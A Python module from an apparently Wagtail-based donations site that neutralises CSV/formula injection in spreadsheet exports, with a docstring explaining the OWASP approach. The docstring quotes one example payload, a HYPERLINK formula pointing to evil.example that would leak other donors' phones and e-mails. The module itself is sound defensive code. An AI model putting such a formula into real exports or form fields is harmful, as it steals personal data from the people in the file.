"""Spreadsheet cells that a spreadsheet program cannot run as formulas (CSV/formula injection).

Excel and LibreOffice read a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula,
and a leading tab or carriage return can hide one. Text typed on the public donate form (a
donor's name, even one who chose to stay anonymous) reaches the staff's CSV and XLSX exports:
a name such as ``=HYPERLINK("https://evil.example/?d="&D2&E2,"…")`` would, with one click,
send other donors' phones and e-mails to whoever typed it. OWASP's rule ("CSV Injection")
is to make such a cell text by putting a single quote in front of it; ``safe_cell`` does that,
and every CSV or XLSX the project writes passes its cells through it:

- our own writers call ``safe_cell``/``safe_row`` (donations/public/exports.py for the public
  statement CSV, donations/reports/ for every XLSX report, reconciliation/demo.py for the
  demo bank statements);
- Wagtail's listing and report exports (``SpreadsheetExportMixin``: our viewsets'
  ``list_export`` and Wagtail's own reports, such as the site history, whose labels are
  donors' names) get it through ``neutralise_wagtail_exports``, called once at start-up by
  sitewide/apps.py. Those views are Wagtail's, not ours, so no mixin of ours reaches all of
  them; the one method every one of them sends each value through on its way to the file,
  ``preprocess_field_value``, is wrapped instead.

What a cell is judged on: its first character, or its first after leading whitespace,
control and format characters (some programs trim spaces before parsing), is ``=``, ``+``,
``-``, ``@``, tab or carriage return, or a full-width or other compatibility form of one of
the first four (``＝＋－＠``: NFKC folds them to ASCII, and some spreadsheet programs do too).

What it does not do:

- Only text is changed. A number (int, Decimal, float), a date or None is written as it is,
  so a money column stays numeric, negative amounts included: a number our code holds is not
  a formula however it is written. Text that looks like a number is still text: "-5000" typed
  by someone becomes "'-5000" (as does a phone number typed "+84…").
- The quote is part of the cell's value: a reader of the file sees it (Excel shows it in CSV;
  in XLSX it is not the hidden "quote prefix" style). It is the price of a file that is safe
  in every program.
- It does not quote or escape anything else: separators and quotes inside a CSV field are the
  csv module's job, and XML escaping openpyxl's (or donations/reports/fastrows.py's).
- Column headings are labels from our code, not user text, and are not passed through it in
  Wagtail's exports.
"""

import datetime
import functools
import unicodedata

from sitewide.formatting import format_date, format_datetime

TRIGGERS = frozenset("=+-@\t\r")
# Skipped when looking for the first character that counts: control, format and separator
# characters (zero-width space, BOM, direction marks…) besides whitespace.
_SKIPPED_CATEGORIES = frozenset({"Cc", "Cf", "Zs", "Zl", "Zp"})


def starts_like_formula(text):
    """Whether a spreadsheet program could read the text as a formula (see the module)."""
    for char in text:
        if char in TRIGGERS:
            return True
        if char.isalnum():
            return False
        if char.isspace() or unicodedata.category(char) in _SKIPPED_CATEGORIES:
            continue
        return not char.isascii() and unicodedata.normalize("NFKC", char)[:1] in TRIGGERS
    return False


def safe_cell(value):
    """value, with a leading "'" if it is text that starts like a formula; anything else as is."""
    if isinstance(value, str) and value and starts_like_formula(value):
        return "'" + value
    return value


def safe_row(values):
    """A list of the values, each through safe_cell."""
    return [safe_cell(value) for value in values]


class SafeWriter:
    """A csv writer (``csv.writer(...)``) whose rows go through safe_row."""

    def __init__(self, writer):
        self.writer = writer

    def writerow(self, row):
        return self.writer.writerow(safe_row(row))

    def writerows(self, rows):
        return self.writer.writerows(safe_row(row) for row in rows)


def neutralise_wagtail_exports():
    """Send every value of Wagtail's CSV and XLSX exports through safe_cell (once); a CSV's
    dates and times are written dd/mm/yyyy (Wagtail writes ISO), an XLSX keeps date cells."""
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    original = SpreadsheetExportMixin.preprocess_field_value
    if getattr(original, "neutralises_formulas", False):
        return

    @functools.wraps(original)
    def preprocess_field_value(self, field, value, export_format):
        if export_format == "csv":  # a CSV is read as text: dates the Vietnamese way
            if isinstance(value, datetime.datetime):
                return format_datetime(value)
            if isinstance(value, datetime.date):
                return format_date(value)
        return safe_cell(original(self, field, value, export_format))

    preprocess_field_value.neutralises_formulas = True
    SpreadsheetExportMixin.preprocess_field_value = preprocess_field_value
